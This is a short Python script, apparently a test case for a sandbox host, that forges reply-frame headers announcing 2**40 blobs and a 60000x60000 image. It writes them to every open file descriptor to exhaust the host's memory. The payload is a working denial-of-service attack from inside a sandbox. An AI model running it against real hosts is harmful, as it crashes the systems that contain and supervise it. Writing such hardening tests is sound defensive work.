# attempts: forge a reply frame announcing 2**40 blobs and a 60000x60000 image, so a host that pre-allocates per the header runs out of memory
# category: escape
import json
import os
import struct

head = json.dumps({"type": "result", "stdout": "", "dropped": 0, "error": None, "ms": 0.5,
                   "images": [{"width": 60000, "height": 60000, "region": None}], "blobs": 1 << 40}).encode()
frames = struct.pack("<I", len(head)) + head + struct.pack("<I", 0xFFFFFFFF)  # first blob claims 4 GiB
written = []
for fd in range(3, 256):
    try:
        os.write(fd, frames)
        written.append(fd)
    except OSError:
        pass
raise RuntimeError(f"oversized frame headers written to fds {written}; the host must bound what it allocates")
